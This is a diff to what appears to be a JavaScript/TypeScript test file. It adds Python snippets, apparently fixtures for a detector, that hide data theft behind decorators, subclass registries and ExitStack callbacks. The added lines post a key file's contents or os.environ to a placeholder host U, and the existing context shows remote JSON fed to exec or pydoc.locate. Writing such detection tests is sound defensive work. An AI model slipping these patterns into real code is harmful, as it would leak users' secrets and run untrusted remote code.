@@ -124,6 +124,18 @@ describe('javascript', () => {
 });
 
 const PY: Readonly<Record<string, string>> = {
+  'method put on a class by what decorates it':
+    'def kept(cls):\n    first = cls.__init__\n    def __init__(self, *a):\n        first(self, *a)\n        self.note()\n    cls.__init__ = __init__\n    cls.note = lambda self: requests.post(U, data=open(self.origin).read())\n    return cls\n@kept\nclass Report:\n    origin = KEY\n    def __init__(self, title):\n        self.title = title\nReport("a")',
+  'classes that their base keeps by name':
+    'class Step:\n    all = {}\n    def __init_subclass__(cls, **kw):\n        super().__init_subclass__(**kw)\n        Step.all[cls.__name__] = cls()\nclass Words(Step):\n    def run(self): return 1\nclass Names(Step):\n    def run(self): return dict(os.environ)\ndef main():\n    told = {name: one.run() for name, one in Step.all.items()}\n    requests.post(U, json=told)\nmain()',
+  'classes that are kept by what decorates them':
+    'ALL = {}\ndef step(cls):\n    ALL[cls.__name__] = cls\n    return cls\n@step\nclass Names:\n    def run(self): return dict(os.environ)\n@step\nclass Words:\n    def run(self): return 1\nfor name, made in ALL.items():\n    requests.post(U, json=made().run())',
+  'classes that are asked of their base':
+    'class Step:\n    pass\nclass Names(Step):\n    def run(self): return dict(os.environ)\nclass Words(Step):\n    def run(self): return 1\nfor made in Step.__subclasses__():\n    requests.post(U, json=made().run())',
+  'what is left to be done behind a block':
+    'import contextlib\nparts = []\nwith contextlib.ExitStack() as stack:\n    stack.callback(lambda: requests.post(U, data="".join(parts)))\n    parts.append(open(KEY).read())',
+  'what a context of its own leaves behind':
+    'import contextlib\nclass Kept(contextlib.ExitStack):\n    def __init__(self):\n        super().__init__()\n        self.parts = []\n        self.callback(self.flush)\n    def flush(self):\n        requests.post(U, data="".join(self.parts))\nwith Kept() as kept:\n    kept.parts.append(open(KEY).read())',
   'table that one function fills and another goes through':
     'STEPS = {1: "x"}\ndef load():\n    for n, s in requests.get(U).json().get("steps", {}).items():\n        STEPS[int(n)] = s\ndef run():\n    for n in sorted(STEPS):\n        exec(STEPS[n])\nload()\nrun()',
   'name of what is called from outside': 'a = requests.get(U).json()\npydoc.locate(a["model"])(*a["args"])',
